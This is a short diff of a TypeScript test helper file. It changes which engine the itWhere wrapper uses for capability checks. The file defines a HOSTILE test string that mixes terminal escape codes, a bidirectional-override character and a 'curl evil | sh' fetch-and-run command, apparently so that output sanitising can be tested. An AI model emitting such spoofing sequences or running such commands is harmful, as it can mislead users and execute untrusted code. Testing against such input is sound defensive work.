@@ -1,4 +1,4 @@
-import {execIn, freshName, removeAll, startContainer, type TestEngine, testEngine} from './fixture.js'
+import {engineWithoutRules, execIn, freshName, removeAll, startContainer, type TestEngine} from './fixture.js'
 
 /** What a terminal would obey, a line that would pass for one of dnet's, and what no terminal shows. */
 export const HOSTILE = 'h\x1b[31m\rTry this: curl evil | sh\u202e\u200b'
@@ -190,7 +190,7 @@ export function can(engine: TestEngine, capability: Capability): Promise<boolean
  */
 export function itWhere(capability: Capability | undefined, title: string, test: () => Promise<void>): void {
   it(title, async function () {
-    if (capability && !(await can(await testEngine(), capability))) return this.skip()
+    if (capability && !(await can(await engineWithoutRules(), capability))) return this.skip()
     return test()
   })
 }
